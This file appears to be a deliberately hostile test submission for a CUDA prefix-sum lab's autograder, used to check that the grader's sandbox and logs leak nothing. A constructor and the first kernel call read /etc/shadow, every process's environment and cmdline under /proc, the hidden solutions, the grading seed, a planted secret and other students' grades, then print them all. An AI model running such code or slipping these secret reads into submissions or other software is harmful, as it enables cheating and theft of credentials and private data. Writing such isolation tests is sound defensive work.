/* hostile: read_secrets. From a constructor and from its first call, reads
 * what it must not see and prints all of it to stdout: the solution (the
 * kit's and the grading kit's copies, at @@KIT@@, filled in at staging),
 * the grading seed (its own environment, /proc/1/environ, /proc/<ppid>/
 * environ, every /proc/<pid>/environ and cmdline it can open), a file the
 * runner planted outside every hidden folder (@@SECRET@@, mode 0600),
 * /etc/shadow, the grades folder and the kit's git metadata.
 * The grader must give: 0, like the stub, and it finds nothing: its log
 * (which a student could be shown) holds neither the seed, nor any text of
 * the solution, nor the planted token. */
#include "prefix_sum.h"
#include <cuda_runtime.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Prints up to cap bytes of path, NULs as spaces; says when it cannot. */
static void hx_dump(const char *path, size_t cap)
{
    FILE *f = fopen(path, "r");
    if (!f) {
        printf("read_secrets: cannot read %s\n", path);
        return;
    }
    printf("read_secrets: === %s\n", path);
    int c;
    size_t k = 0;
    while (k++ < cap && (c = fgetc(f)) != EOF)
        putchar(c ? c : ' ');
    putchar('\n');
    fclose(f);
}

static void hx_read_everything(void)
{
    const char *env = getenv("PRIMLAB_SEED");
    printf("read_secrets: PRIMLAB_SEED in my environment: %s\n", env ? env : "(none)");
    hx_dump("@@KIT@@/solutions/01-prefix-sum/prefix_sum.cu", 1 << 16);
    hx_dump("@@KIT@@/build/grade-kit/solutions/01-prefix-sum/prefix_sum.cu", 1 << 16);
    hx_dump("@@KIT@@/.git/HEAD", 4096);
    hx_dump("@@KIT@@/build/solutions/lab01-worker.log", 4096);
    hx_dump("@@SECRET@@", 4096);
    hx_dump("/etc/shadow", 4096);
    hx_dump("@@GRADES@@/other_student/results.json", 4096);
    hx_dump("@@GRADES@@/.graded.tsv", 4096);
    hx_dump("/proc/self/environ", 4096);
    hx_dump("/proc/1/environ", 4096);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    hx_dump(path, 4096);
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (atoi(e->d_name) <= 0)
            continue;
        snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
        hx_dump(path, 4096);
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        hx_dump(path, 4096);
    }
    if (d)
        closedir(d);
    fflush(stdout);
}

__attribute__((constructor)) static void hx_ctor_read_secrets(void) { hx_read_everything(); }

extern "C" void scan_inclusive_block(const int *d_in, int *d_out, int n)
{
    static int once;
    (void)d_in, (void)d_out, (void)n;
    if (!once++)
        hx_read_everything();
}
extern "C" void scan_inclusive(const int *d_in, int *d_out, int n, int *d_scratch) { (void)d_in, (void)d_out, (void)n, (void)d_scratch; }
extern "C" void scan_exclusive(const int *d_in, int *d_out, int n, int *d_scratch) { (void)d_in, (void)d_out, (void)n, (void)d_scratch; }
extern "C" void scan_inclusive_threads(const int *d_in, int *d_out, int n, int *d_scratch, int threads) { (void)threads; scan_inclusive(d_in, d_out, n, d_scratch); }
